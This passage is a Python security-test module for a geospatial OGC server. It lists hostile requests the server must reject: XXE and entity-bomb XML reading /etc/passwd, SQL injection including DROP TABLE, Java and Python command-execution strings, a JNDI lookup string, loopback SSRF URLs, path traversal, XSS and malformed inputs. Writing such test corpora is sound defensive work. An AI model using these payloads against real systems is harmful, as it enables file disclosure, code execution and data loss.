"""The hostile corpus: one row per request an attacker (or a confused client) sends.

Categories: ``xml`` (entity bombs, XXE, external DTDs, XInclude), ``sql`` (injection
through filters, ids and search terms), ``ssrf`` (URLs the server must not fetch; only
the loopback canary is ever named), ``traversal``, ``eval`` (property names and
expressions other servers evaluated: GeoServer CVE-2024-36401), ``script`` (reflected
markup), ``number`` (huge, negative, NaN, infinite), ``json`` (malformed, deep), ``body``
(chunked, oversized), ``protocol`` (wrong versions, unknown ids, OAI-PMH arguments) and
``malformed`` (mistakes a library turned into a 500, a hang or a leak).
"""

from __future__ import annotations

import json
from urllib.parse import quote

from tests.security.support import Case

LIMIT = 10 * 1024 * 1024  # security.max_request_bytes of the live suite (the default)

JSON = (("Content-Type", "application/json"),)
XML = (("Content-Type", "application/xml"),)
WMS = "/maps/service?service=WMS&version=1.3.0&request=GetMap&styles=&format=image/png"
WMS_OK = f"{WMS}&layers={{product}}&crs=EPSG:4326"
WMTS_KVP = (
    "/maps/service?service=WMTS&version=1.0.0&request=GetTile&layer={product}&style=default"
    "&format=image/png&tilematrixset=GoogleMapsCompatible"
)
WCS = "/wcs?service=WCS&version=2.0.1&request=GetCoverage"
CSW2 = "/csw?service=CSW&version=2.0.2&request=GetRecords&typenames=csw:Record&resulttype=results"
OPENSEARCH = (
    "/csw?mode=opensearch&service=CSW&version=3.0.0&request=GetRecords&typenames=csw:Record"
    "&elementsetname=full&outputformat=application/atom%2Bxml"
)
OAI = "/csw?mode=oaipmh"
WPS_EXECUTE = "/wps?service=WPS&version=1.0.0&request=Execute&identifier=echo&datainputs="
COVERAGE = "/coverages/collections/{product}/coverage?f=json"


def q(text: str) -> str:
    return quote(text, safe="")


def deep_json(depth: int = 100_000) -> bytes:
    return b"[" * depth + b"]" * depth


def deep_inputs() -> bytes:
    return b'{"inputs": {"stringInput": ' + deep_json(100_000) + b"}}"


def oversized() -> bytes:
    return b" " * (LIMIT + 1)


def oversized_json() -> bytes:
    return b'{"ids": ["' + b"a" * (LIMIT + 1) + b'"]}'


# XML documents ---------------------------------------------------------------------
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
XXE_FILE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_HTTP = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "{canary}/xxe">]>'
XXE_PARAM = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{canary}/dtd"> %p;]>'
EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE r SYSTEM "{canary}/external.dtd">'
QUADRATIC = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + "x" * 10000 + '">]>'

CSW_GETRECORDS = (
    '<csw:GetRecords xmlns:csw="http://www.opengis.net/cat/csw/2.0.2" '
    'xmlns:ogc="http://www.opengis.net/ogc" service="CSW" version="2.0.2" '
    'resultType="results"><csw:Query typeNames="csw:Record">'
    "<csw:ElementSetName>brief</csw:ElementSetName>"
    '<csw:Constraint version="1.1.0"><ogc:Filter>{filter}</ogc:Filter></csw:Constraint>'
    "</csw:Query></csw:GetRecords>"
)
WPS_XML = (
    '<wps:Execute xmlns:wps="http://www.opengis.net/wps/1.0.0" '
    'xmlns:ows="http://www.opengis.net/ows/1.1" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'service="WPS" version="1.0.0"><ows:Identifier>echo</ows:Identifier>'
    "<wps:DataInputs>{inputs}</wps:DataInputs></wps:Execute>"
)
WCS_XML = (
    '<wcs:GetCoverage xmlns:wcs="http://www.opengis.net/wcs/2.0" service="WCS" '
    'version="2.0.1"><wcs:CoverageId>{coverage}</wcs:CoverageId></wcs:GetCoverage>'
)


def csw_filter(filter_xml: str, prolog: str = "") -> bytes:
    return (prolog + CSW_GETRECORDS.replace("{filter}", filter_xml)).encode()


def like(value: str, prop: str = "dc:title") -> str:
    return (
        '<ogc:PropertyIsLike wildCard="%" singleChar="_" escapeChar="\\">'
        f"<ogc:PropertyName>{prop}</ogc:PropertyName><ogc:Literal>{value}</ogc:Literal>"
        "</ogc:PropertyIsLike>"
    )


def equal(prop: str, value: str = "x") -> str:
    return (
        f"<ogc:PropertyIsEqualTo><ogc:PropertyName>{prop}</ogc:PropertyName>"
        f"<ogc:Literal>{value}</ogc:Literal></ogc:PropertyIsEqualTo>"
    )


def wps_input(identifier: str, data: str) -> str:
    return (
        f"<wps:Input><ows:Identifier>{identifier}</ows:Identifier>"
        f"<wps:Data><wps:LiteralData>{data}</wps:LiteralData></wps:Data></wps:Input>"
    )


def wps_reference(identifier: str, href: str, extra: str = "", attrs: str = "") -> str:
    return (
        f"<wps:Input><ows:Identifier>{identifier}</ows:Identifier>"
        f'<wps:Reference xlink:href="{href}" {attrs}>{extra}</wps:Reference></wps:Input>'
    )


def wps_xml(inputs: str, prolog: str = "") -> bytes:
    return (prolog + WPS_XML.replace("{inputs}", inputs)).encode()


def wcs_xml(coverage: str, prolog: str = "") -> bytes:
    return (prolog + WCS_XML.replace("{coverage}", coverage)).encode()


def execute(inputs: str) -> bytes:
    return ('{"inputs": ' + inputs + "}").encode()


def xml_cases() -> list[Case]:
    cases = []
    for name, prolog, entity in (
        ("laughs", LAUGHS, "&lol9;"),
        ("xxe-file", XXE_FILE, "&xxe;"),
        ("xxe-http", XXE_HTTP, "&xxe;"),
        ("xxe-parameter", XXE_PARAM, "x"),
        ("external-dtd", EXTERNAL_DTD, "x"),
        ("quadratic", QUADRATIC, "&a;" * 2000),
    ):
        cases += [
            Case(
                f"csw-{name}", "xml", "POST", "/csw", "ows", csw_filter(like(entity), prolog), XML
            ),
            Case(
                f"wps-{name}",
                "xml",
                "POST",
                "/wps",
                "ows",
                wps_xml(wps_input("stringInput", entity), prolog),
                XML,
            ),
            Case(f"wcs-{name}", "xml", "POST", "/wcs", "ows", wcs_xml(entity, prolog), XML),
        ]
    xinclude = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        'parse="text"/>'
    )
    cases += [
        Case("wps-xinclude", "xml", "POST", "/wps", "ows", wps_xml(wps_input("x", xinclude)), XML),
        Case("wcs-xinclude", "xml", "POST", "/wcs", "ows", wcs_xml(xinclude), XML),
        Case("csw-malformed-xml", "xml", "POST", "/csw", "ows", b"<csw:GetRecords", XML),
        Case("wps-malformed-xml", "xml", "POST", "/wps", "ows", b"<wps:Execute><", XML),
        Case("wcs-malformed-xml", "xml", "POST", "/wcs", "ows", b"<<>>", XML),
        Case("wcs-not-xml", "xml", "POST", "/wcs", "ows", b"\xff\xfe\x00garbage", XML),
    ]
    return cases


def sql_cases() -> list[Case]:
    injection = "' OR '1'='1' --"
    union = "x' UNION SELECT identifier, xml FROM records --"
    drop = "'; DROP TABLE records; --"
    return [
        Case("csw-like-or", "sql", "POST", "/csw", "empty:csw", csw_filter(like(injection)), XML),
        Case("csw-like-union", "sql", "POST", "/csw", "empty:csw", csw_filter(like(union)), XML),
        Case("csw-like-drop", "sql", "POST", "/csw", "empty:csw", csw_filter(like(drop)), XML),
        Case(
            "csw-equal-or",
            "sql",
            "POST",
            "/csw",
            "empty:csw",
            csw_filter(equal("dc:identifier", injection)),
            XML,
        ),
        Case(
            "csw-cql-or",
            "sql",
            "GET",
            f"{CSW2}&constraintlanguage=CQL_TEXT&constraint_language_version=1.1.0"
            f"&constraint={q(f'dc:title = {chr(39)}x{chr(39)} OR 1=1 --')}",
            "ows",
        ),
        Case(
            "csw-cql-subquery",
            "sql",
            "GET",
            f"{CSW2}&constraintlanguage=CQL_TEXT&constraint_language_version=1.1.0"
            f"&constraint={q('dc:title = (SELECT xml FROM records)')}",
            "ows",
        ),
        Case("opensearch-q-or", "sql", "GET", f"{OPENSEARCH}&q={q(injection)}", "empty:opensearch"),
        Case("opensearch-q-union", "sql", "GET", f"{OPENSEARCH}&q={q(union)}", "empty:opensearch"),
        Case(
            "csw-getrecordbyid-or",
            "sql",
            "GET",
            f"/csw?service=CSW&version=2.0.2&request=GetRecordById&id={q(injection)}",
            "empty:csw-byid",
        ),
        Case(
            "oai-getrecord-or",
            "sql",
            "GET",
            f"{OAI}&verb=GetRecord&metadataPrefix=oai_dc&identifier={q(injection)}",
            "oai:idDoesNotExist",
        ),
        Case("stac-ids-or", "sql", "GET", f"/stac/search?ids={q(injection)}", "empty:stac"),
        Case(
            "stac-collections-or",
            "sql",
            "GET",
            f"/stac/search?collections={q(injection)}",
            "empty:stac",
        ),
        Case(
            "stac-post-ids-union",
            "sql",
            "POST",
            "/stac/search",
            "empty:stac",
            ('{"ids": ["' + union + '"]}').encode(),
            JSON,
        ),
        Case("stac-item-or", "sql", "GET", f"/stac/collections/x/items/{q(injection)}", "problem"),
        Case("stac-collection-or", "sql", "GET", f"/stac/collections/{q(injection)}", "problem"),
        Case("wcs-coverage-or", "sql", "GET", f"{WCS}&coverageId={q(injection)}", "ows"),
        Case(
            "wms-layers-or",
            "sql",
            "GET",
            f"{WMS}&layers={q(injection)}&crs=EPSG:4326&bbox=59,15,60,16&width=64&height=64",
            "wms",
        ),
        Case("data-or", "sql", "GET", f"/data/{q(injection)}.tif", "ows"),
        Case("ogcapi-job-or", "sql", "GET", f"/ogcapi/jobs/{q(injection)}", "problem"),
        Case("ogcapi-process-or", "sql", "GET", f"/ogcapi/processes/{q(injection)}", "problem"),
        Case(
            "coverages-collection-or",
            "sql",
            "GET",
            f"/coverages/collections/{q(injection)}/coverage",
            "problem",
        ),
        Case(
            "wps-identifier-or",
            "sql",
            "GET",
            f"/wps?service=WPS&version=1.0.0&request=DescribeProcess&identifier={q(injection)}",
            "ows",
        ),
    ]


def eval_cases() -> list[Case]:
    java = "exec(java.lang.Runtime.getRuntime(),'touch /tmp/ogcsdl-pwned')"
    python = "__import__('os').system('touch /tmp/ogcsdl-pwned')"
    return [
        Case("csw-propertyname-exec", "eval", "POST", "/csw", "ows", csw_filter(equal(java)), XML),
        Case(
            "csw-propertyname-python", "eval", "POST", "/csw", "ows", csw_filter(equal(python)), XML
        ),
        Case(
            "csw-propertyname-sql",
            "eval",
            "POST",
            "/csw",
            "ows",
            csw_filter(equal("title) OR 1=1 --")),
            XML,
        ),
        Case(
            "csw-propertyname-xpath",
            "eval",
            "POST",
            "/csw",
            "ows",
            csw_filter(equal("//*[contains(.,'a')] | /etc/passwd")),
            XML,
        ),
        Case(
            "csw-cql-exec",
            "eval",
            "GET",
            f"{CSW2}&constraintlanguage=CQL_TEXT&constraint_language_version=1.1.0"
            f"&constraint={q(java + ' = 1')}",
            "ows",
        ),
        Case("csw-sortby-exec", "eval", "GET", f"{CSW2}&sortby={q(java)}", "ows"),
        Case("csw-elementname-exec", "eval", "GET", f"{CSW2}&elementname={q(python)}", "ows"),
        Case(
            "stac-collections-python",
            "eval",
            "GET",
            f"/stac/search?collections={q(python)}",
            "empty:stac",
        ),
        Case(
            "stac-unknown-param-template",
            "eval",
            "GET",
            f"/stac/search?{q('${jndi:ldap://x}')}=1",
            "problem",
        ),
        Case(
            "stac-post-filter-exec",
            "eval",
            "POST",
            "/stac/search",
            "empty:stac",  # an unknown queryable matches nothing (stac branch's CQL2)
            (
                '{"filter": {"op": "=", "args": [{"property": "'
                + java.replace("'", "")
                + '"}, 1]}}'
            ).encode(),
            JSON,
        ),
        Case(
            "wps-identifier-python",
            "eval",
            "GET",
            f"/wps?service=WPS&version=1.0.0&request=DescribeProcess&identifier={q(python)}",
            "ows",
        ),
        Case(
            "wps-input-template",
            "eval",
            "GET",
            WPS_EXECUTE + q("stringInput=${7*7};integerInput={{7*7}}"),
            "ows",
        ),
        Case(
            "ogcapi-input-python",
            "eval",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            execute('{"stringInput": "x", "integerInput": "' + python + '"}'),
            JSON,
        ),
        Case(
            "wms-time-template",
            "eval",
            "GET",
            f"{WMS_OK}&bbox=59,15,60,16&width=64&height=64&time={q('${jndi:ldap://x}')}",
            "wms",
        ),
        Case(
            "wcs-rangesubset-exec",
            "eval",
            "GET",
            f"{WCS}&coverageId={{product}}&rangesubset={q(java)}",
            "ows",
        ),
        Case(
            "coverages-properties-python",
            "eval",
            "GET",
            f"{COVERAGE}&properties={q(python)}",
            "problem",
        ),
    ]


def ssrf_cases() -> list[Case]:
    forms = {
        "loopback": "{canary}/ssrf",
        "localhost": "http://localhost:{port}/ssrf",
        "decimal": "http://2130706433:{port}/ssrf",
        "hex": "http://0x7f.0.0.1:{port}/ssrf",
        "short": "http://127.1:{port}/ssrf",
        "ipv6-mapped": "http://[::ffff:127.0.0.1]:{port}/ssrf",
        "userinfo": "http://example.org@127.0.0.1:{port}/ssrf",
        "file": "file:///etc/passwd",
        "gopher": "gopher://127.0.0.1:{port}/_GET",
    }
    cases = []
    for name, url in forms.items():
        cases.append(
            Case(
                f"ogcapi-href-{name}",
                "ssrf",
                "POST",
                "/ogcapi/processes/echo/execution",
                "problem",
                execute('{"stringInput": "x", "complexObjectInput": {"href": "' + url + '"}}'),
                JSON,
            )
        )
    for name in ("loopback", "decimal", "file"):
        cases.append(
            Case(
                f"wps-xml-reference-{name}",
                "ssrf",
                "POST",
                "/wps",
                "ows",
                wps_xml(
                    wps_input("stringInput", "x")
                    + wps_reference(
                        "complexObjectInput", forms[name], attrs='mimeType="application/json"'
                    )
                ),
                XML,
            )
        )
    cases += [
        Case(
            "wps-kvp-href-loopback",
            "ssrf",
            "GET",
            WPS_EXECUTE + q("stringInput=x;complexObjectInput=@xlink:href={canary}/kvp"),
            "ows",
        ),
        Case(
            "wps-xml-bodyreference",
            "ssrf",
            "POST",
            "/wps",
            "ows",
            wps_xml(
                wps_input("stringInput", "x")
                + wps_reference(
                    "complexObjectInput",
                    "{canary}/post",
                    '<wps:BodyReference xlink:href="{canary}/body"/>',
                    'method="POST" mimeType="application/json"',
                )
            ),
            XML,
        ),
        Case(
            "wps-kvp-bodyreference",
            "ssrf",
            "GET",
            WPS_EXECUTE
            + q("stringInput=x;complexObjectInput=@xlink:href={canary}/k@method=POST")
            + q("@bodyreference={canary}/kb"),
            "ows",
        ),
        Case(
            "csw-harvest-loopback",
            "ssrf",
            "GET",
            "/csw?service=CSW&version=2.0.2&request=Harvest&source={canary}/harvest"
            "&resourcetype=http://www.opengis.net/cat/csw/2.0.2",
            "ows",
        ),
        Case(
            "wms-sld-loopback",
            "ssrf",
            "GET",
            f"{WMS_OK}&bbox=59,15,60,16&width=64&height=64&sld={{canary}}/sld.xml",
            "image",
        ),
    ]
    return cases


def traversal_cases() -> list[Case]:
    passwd = "../../../../../../etc/passwd"
    return [
        Case("data-dotdot", "traversal", "GET", "/data/../../../../etc/passwd", "ows"),
        Case("data-encoded", "traversal", "GET", f"/data/{q(passwd)}.tif", "ows"),
        Case("data-dot-encoded", "traversal", "GET", "/data/%2e%2e/%2e%2e/etc/passwd", "ows"),
        Case("data-absolute", "traversal", "GET", f"/data/{q('/etc/passwd')}", "ows"),
        Case("maps-wmts-dotdot", "traversal", "GET", "/maps/wmts/../../etc/passwd", "ows"),
        Case("maps-wmts-encoded", "traversal", "GET", "/maps/wmts/%2e%2e/%2e%2e/x", "ows"),
        Case(
            "maps-wmts-tile-dotdot",
            "traversal",
            "GET",
            "/maps/wmts/1.0.0/{product}/default/GoogleMapsCompatible/../../../../../etc/passwd.png",
            "ows",
        ),
        Case(
            "maps-tms-dotdot", "traversal", "GET", "/maps/tms/1.0.0/../../../../etc/passwd", "ows"
        ),
        Case(
            "maps-wmts-time-dotdot",
            "traversal",
            "GET",
            f"{WMTS_KVP}&tilematrix=3&tilerow=1&tilecol=1&time={q(passwd)}",
            "ows",
        ),
        Case(
            "maps-wms-layer-dotdot",
            "traversal",
            "GET",
            f"{WMS}&layers={q(passwd)}&crs=EPSG:4326&bbox=59,15,60,16&width=64&height=64",
            "wms",
        ),
        Case(
            "stac-collection-dotdot",
            "traversal",
            "GET",
            f"/stac/collections/{q(passwd)}",
            "problem",
        ),
        Case("stac-dotdot", "traversal", "GET", "/stac/../../etc/passwd", "problem"),
        Case(
            "coverages-dotdot",
            "traversal",
            "GET",
            "/coverages/collections/../../../../etc/passwd/coverage",
            "problem",
        ),
        Case(
            "coverages-encoded",
            "traversal",
            "GET",
            f"/coverages/collections/{q(passwd)}/coverage",
            "problem",
        ),
        Case("wps-status-dotdot", "traversal", "GET", "/wps/status/../../../etc/passwd.xml", "ows"),
        Case("ogcapi-job-dotdot", "traversal", "GET", f"/ogcapi/jobs/{q(passwd)}", "problem"),
        Case(
            "ogcapi-result-dotdot",
            "traversal",
            "GET",
            f"/ogcapi/jobs/x/results/{q(passwd)}",
            "problem",
        ),
        Case("wcs-coverage-dotdot", "traversal", "GET", f"{WCS}&coverageId={q(passwd)}", "ows"),
        Case("gateway-dotdot", "traversal", "GET", "/../../../etc/passwd", "ows"),
        Case(
            "csw-outputschema-file",
            "traversal",
            "GET",
            f"{CSW2}&outputschema={q('file:///etc/passwd')}",
            "ows",
        ),
    ]


def script_cases() -> list[Case]:
    script = "<script>alert(1)</script>"
    s = q(script)
    img = q('"><img src=x onerror=alert(1)>')
    return [
        Case("maps-wmts-rest-script", "script", "GET", f"/maps/wmts/1.0.0/{s}/x.png", "ows"),
        Case("maps-wmts-rest-img", "script", "GET", f"/maps/wmts/{img}", "ows"),
        Case("maps-tms-script", "script", "GET", f"/maps/tms/1.0.0/{s}/", "ows"),
        Case(
            "maps-wms-layer-script",
            "script",
            "GET",
            f"{WMS}&layers={s}&crs=EPSG:4326&bbox=59,15,60,16&width=64&height=64",
            "wms",
        ),
        Case(
            "maps-wms-format-script",
            "script",
            "GET",
            f"{WMS}&layers={{product}}&crs=EPSG:4326&bbox=59,15,60,16&width=64&height=64"
            f"&format={s}",
            "wms",
        ),
        Case(
            "maps-wms-crs-script",
            "script",
            "GET",
            f"{WMS}&layers={{product}}&crs={s}&bbox=59,15,60,16&width=64&height=64",
            "wms",
        ),
        Case(
            "maps-wmts-layer-script",
            "script",
            "GET",
            WMTS_KVP.replace("{product}", s) + "&tilematrix=3&tilerow=1&tilecol=1",
            "ows",
        ),
        Case(
            "maps-wms-request-script",
            "script",
            "GET",
            f"/maps/service?service=WMS&version=1.3.0&request={s}",
            "wms",
        ),
        Case(
            "maps-ogcapi-script",
            "script",
            "GET",
            f"/maps/ogcapi/collections/{s}",
            "problem",
            status=(400, 404),
        ),
        Case("stac-collection-script", "script", "GET", f"/stac/collections/{s}", "problem"),
        Case("stac-datetime-script", "script", "GET", f"/stac/search?datetime={s}", "problem"),
        Case("stac-bbox-script", "script", "GET", f"/stac/search?bbox={s}", "problem"),
        Case(
            "coverages-collection-script", "script", "GET", f"/coverages/collections/{s}", "problem"
        ),
        Case("coverages-crs-script", "script", "GET", f"{COVERAGE}&bbox-crs={s}", "problem"),
        Case("ogcapi-process-script", "script", "GET", f"/ogcapi/processes/{s}", "problem"),
        Case("ogcapi-job-script", "script", "GET", f"/ogcapi/jobs/{s}", "problem"),
        Case("wcs-coverage-script", "script", "GET", f"{WCS}&coverageId={s}", "ows"),
        Case(
            "wcs-request-script",
            "script",
            "GET",
            f"/wcs?service=WCS&version=2.0.1&request={s}",
            "ows",
        ),
        Case(
            "csw-request-script",
            "script",
            "GET",
            f"/csw?service=CSW&version=2.0.2&request={s}",
            "ows",
        ),
        Case(
            "csw-id-script",
            "script",
            "GET",
            f"/csw?service=CSW&version=2.0.2&request=GetRecordById&id={s}",
            "empty:csw-byid",
        ),
        Case("oai-verb-script", "script", "GET", f"{OAI}&verb={s}", "oai:badVerb"),
        Case(
            "oai-identifier-script",
            "script",
            "GET",
            f"{OAI}&verb=GetRecord&metadataPrefix=oai_dc&identifier={s}",
            "oai:idDoesNotExist",
        ),
        Case(
            "wps-identifier-script",
            "script",
            "GET",
            f"/wps?service=WPS&version=1.0.0&request=DescribeProcess&identifier={s}",
            "ows",
        ),
        Case(
            "wps-input-script", "script", "GET", WPS_EXECUTE + q(f"stringInput=x;{script}=1"), "ows"
        ),
        Case("gateway-path-script", "script", "GET", f"/nothing/{s}", "ows"),
        Case("data-script", "script", "GET", f"/data/{s}.tif", "ows"),
    ]


def number_cases() -> list[Case]:
    bbox = "&crs=EPSG:4326&width=64&height=64&bbox="
    size = "&crs=EPSG:4326&bbox=59,15,60,16&height=64&width="
    huge = "9" * 40
    cases = [
        Case(f"wms-width-{name}", "number", "GET", f"{WMS_OK}{size}{value}", "wms")
        for name, value in (
            ("nan", "NaN"),
            ("negative", "-1"),
            ("zero", "0"),
            ("huge", "100000"),
            ("1e400", "1e400"),
            ("digits", huge),
            ("float", "64.5"),
        )
    ]
    cases += [
        Case(f"wms-bbox-{name}", "number", "GET", f"{WMS_OK}{bbox}{value}", "wms")
        for name, value in (
            ("nan", "nan,15,60,16"),
            ("inf", "59,15,inf,16"),
            ("1e400", "59,15,1e400,16"),
            ("reversed", "60,16,59,15"),
            ("short", "59,15,60"),
            ("text", "a,b,c,d"),
        )
    ]
    cases += [
        Case(
            "wms-featureinfo-i-nan",
            "number",
            "GET",
            "/maps/service?service=WMS&version=1.3.0&request=GetFeatureInfo&layers={product}"
            "&query_layers={product}&styles=&crs=EPSG:4326&bbox=59,15,60,16&width=64&height=64"
            "&info_format=text/plain&i=NaN&j=-3",
            "wms",
        ),
        Case(
            "wmts-row-negative",
            "number",
            "GET",
            f"{WMTS_KVP}&tilematrix=3&tilerow=-1&tilecol=1",
            "ows",
        ),
        Case(
            "wmts-row-huge",
            "number",
            "GET",
            f"{WMTS_KVP}&tilematrix=3&tilerow={huge}&tilecol=1",
            "ows",
        ),
        Case(
            "wmts-matrix-1e400",
            "number",
            "GET",
            f"{WMTS_KVP}&tilematrix=1e400&tilerow=1&tilecol=1",
            "ows",
        ),
        Case(
            "wmts-col-nan", "number", "GET", f"{WMTS_KVP}&tilematrix=3&tilerow=1&tilecol=NaN", "ows"
        ),
        Case(
            "wmts-rest-huge",
            "number",
            "GET",
            f"/maps/wmts/1.0.0/{{product}}/default/GoogleMapsCompatible/3/{huge}/1.png",
            "ows",
        ),
        Case(
            "wmts-rest-negative",
            "number",
            "GET",
            "/maps/wmts/1.0.0/{product}/default/GoogleMapsCompatible/-3/-1/-1.png",
            "ows",
        ),
        Case(
            "tms-huge",
            "number",
            "GET",
            f"/maps/tms/1.0.0/{{product}}/GoogleMapsCompatible/99/{huge}/1.png",
            "ows",
        ),
    ]
    cases += [
        Case(
            f"wcs-scalefactor-{name}",
            "number",
            "GET",
            f"{WCS}&coverageId={{product}}&scalefactor={value}",
            "ows",
        )
        for name, value in (
            ("nan", "nan"),
            ("inf", "inf"),
            ("negative", "-1"),
            ("zero", "0"),
            ("1e400", "1e400"),
            ("tiny", "1e-300"),
        )
    ]
    cases += [
        Case(
            f"wcs-subset-{name}",
            "number",
            "GET",
            f"{WCS}&coverageId={{product}}&subset={q(value)}",
            "ows",
        )
        for name, value in (
            ("nan", "E(nan,601000)"),
            ("inf", "E(-inf,inf)"),
            ("1e400", "N(1e400,1e401)"),
            ("reversed", "E(601000,600000)"),
            ("huge-digits", f"E({huge},{huge}1)"),
        )
    ]
    cases += [
        Case(
            "wcs-scalesize-negative",
            "number",
            "GET",
            f"{WCS}&coverageId={{product}}&scalesize={q('E(-5),N(10)')}",
            "ows",
        ),
        Case(
            "wcs-scalesize-huge",
            "number",
            "GET",
            f"{WCS}&coverageId={{product}}&scalesize={q('E(999999999),N(999999999)')}",
            "ows",
        ),
        Case(
            "wcs-scaleextent-nan",
            "number",
            "GET",
            f"{WCS}&coverageId={{product}}&scaleextent={q('E(nan:5),N(0:5)')}",
            "ows",
        ),
    ]
    cases += [
        Case(f"coverages-{name}", "number", "GET", f"{COVERAGE}&{value}", "problem")
        for name, value in (
            ("bbox-nan", "bbox=nan,59,16,60"),
            ("bbox-1e400", "bbox=15,59,1e400,60"),
            ("bbox-reversed", "bbox=16,60,15,59"),
            ("bbox-outside", "bbox=100,10,101,11"),
            ("bbox-crs-unknown", "bbox=15,59,16,60&bbox-crs=EPSG:99999"),
            ("bbox-crs-text", "bbox=15,59,16,60&bbox-crs=http://example.org/crs"),
            ("subset-nan", "subset=x(nan:601000)"),
            ("subset-outside", "subset=x(0:10)"),
            ("subset-point", "subset=x(600000)"),
            ("subset-axis", "subset=time(1:2)"),
        )
    ]
    cases += [
        Case(f"stac-{name}", "number", "GET", f"/stac/search?{value}", "problem")
        for name, value in (
            ("limit-negative", "limit=-1"),
            ("limit-1e400", "limit=1e400"),
            ("limit-text", "limit=ten"),
            ("token-negative", "token=-5"),
            ("bbox-nan", "bbox=nan,0,1,1"),
            ("bbox-1e400", "bbox=0,0,1e400,1"),
        )
    ]
    cases += [
        Case(f"stac-post-{name}", "number", "POST", "/stac/search", "problem", body, JSON)
        for name, body in (
            ("bbox-number", b'{"bbox": 5}'),
            ("bbox-true", b'{"bbox": true}'),
            ("bbox-bools", b'{"bbox": [true, false, true, true]}'),
            ("bbox-nan", b'{"bbox": [NaN, 0, 1, 1]}'),
            ("bbox-1e400", b'{"bbox": [0, 0, 1e400, 1]}'),
            ("limit-digits", b'{"limit": 1' + b"0" * 5000 + b"}"),
            ("limit-float", b'{"limit": 1e400}'),
        )
    ]
    cases += [
        Case(f"ogcapi-jobs-limit-{name}", "number", "GET", f"/ogcapi/jobs?limit={value}", "problem")
        for name, value in (("text", "abc"), ("1e400", "1e400"))
    ]
    cases += [
        Case(
            f"ogcapi-execute-{name}",
            "number",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            execute(inputs),
            JSON,
        )
        for name, inputs in (
            ("int-digits", '{"stringInput": "x", "integerInput": 1' + "0" * 5000 + "}"),
            ("float-1e400", '{"stringInput": "x", "doubleInput": 1e400}'),
            ("double-nan", '{"stringInput": "x", "doubleInput": NaN}'),
            ("double-range", '{"stringInput": "x", "doubleInput": 11}'),
        )
    ]
    cases += [
        Case(f"wps-kvp-{name}", "number", "GET", WPS_EXECUTE + q(inputs), "ows")
        for name, inputs in (
            ("integer-1e400", "stringInput=x;integerInput=1e400"),
            ("double-1e400", "stringInput=x;doubleInput=1e400"),
            ("double-nan", "stringInput=x;doubleInput=nan"),
            ("integer-digits", f"stringInput=x;integerInput={huge * 2}"),
            ("bbox-nan", "stringInput=x;boundingBoxInput=nan,0,1,1"),
        )
    ]
    cases += [
        Case(f"csw-{name}", "number", "GET", f"{CSW2}&{value}", "ows")
        for name, value in (
            ("maxrecords-text", "maxrecords=abc"),
            ("maxrecords-1e400", "maxrecords=1e400"),
            ("startposition-negative", "startposition=-1"),
        )
    ]
    cases += [
        Case(f"opensearch-{name}", "number", "GET", f"{OPENSEARCH}&{value}", "ows")
        for name, value in (
            ("maxrecords-text", "maxrecords=abc"),
            ("maxrecords-float", "maxrecords=1.5"),
            ("maxrecords-negative", "maxrecords=-1"),
            ("startposition-negative", "startposition=-5"),
            ("startposition-digits", f"startposition={huge}"),
        )
    ]
    return cases


def json_cases() -> list[Case]:
    return [
        Case("stac-deep", "json", "POST", "/stac/search", "problem", lambda: deep_json(), JSON),
        Case("stac-malformed", "json", "POST", "/stac/search", "problem", b'{"ids": [', JSON),
        Case("stac-not-object", "json", "POST", "/stac/search", "problem", b"[1, 2]", JSON),
        Case(
            "stac-not-utf8", "json", "POST", "/stac/search", "problem", b'{"ids": ["\xff"]}', JSON
        ),
        Case(
            "stac-deep-intersects",
            "json",
            "POST",
            "/stac/search",
            "problem",
            b'{"intersects": ' + deep_json(50) + b"}",
            JSON,
        ),
        Case(
            "stac-ids-object", "json", "POST", "/stac/search", "problem", b'{"ids": {"a": 1}}', JSON
        ),
        Case(
            "ogcapi-deep",
            "json",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            lambda: deep_json(),
            JSON,
        ),
        Case(
            "ogcapi-deep-inputs",
            "json",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            deep_inputs,
            JSON,
        ),
        Case(
            "ogcapi-malformed",
            "json",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            b'{"inputs": ',
            JSON,
        ),
        Case(
            "ogcapi-not-object",
            "json",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            b'"inputs"',
            JSON,
        ),
        Case(
            "ogcapi-inputs-list",
            "json",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            b'{"inputs": [1, 2]}',
            JSON,
        ),
        Case(
            "ogcapi-complex-deep",
            "json",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            execute(
                '{"stringInput": "x", "complexObjectInput": {"value": ' + "[" * 40 + "]" * 40 + "}}"
            ),
            JSON,
        ),
        Case(
            "ogcapi-unknown-process",
            "json",
            "POST",
            "/ogcapi/processes/nope/execution",
            "problem",
            b"{}",
            JSON,
        ),
    ]


def body_cases() -> list[Case]:
    return [
        Case(
            "stac-chunked-read",
            "body",
            "POST",
            "/stac/search",
            "empty:stac",
            b'{"ids": ["no-such-item"]}',
            JSON,
            chunked=True,
        ),
        Case(
            "stac-chunked-oversized",
            "body",
            "POST",
            "/stac/search",
            "problem",
            oversized_json,
            JSON,
            chunked=True,
            status=(413,),
        ),
        Case(
            "stac-oversized",
            "body",
            "POST",
            "/stac/search",
            "problem",
            oversized_json,
            JSON,
            status=(413,),
        ),
        Case(
            "ogcapi-chunked-oversized",
            "body",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            oversized,
            JSON,
            chunked=True,
            status=(413,),
        ),
        Case(
            "ogcapi-oversized",
            "body",
            "POST",
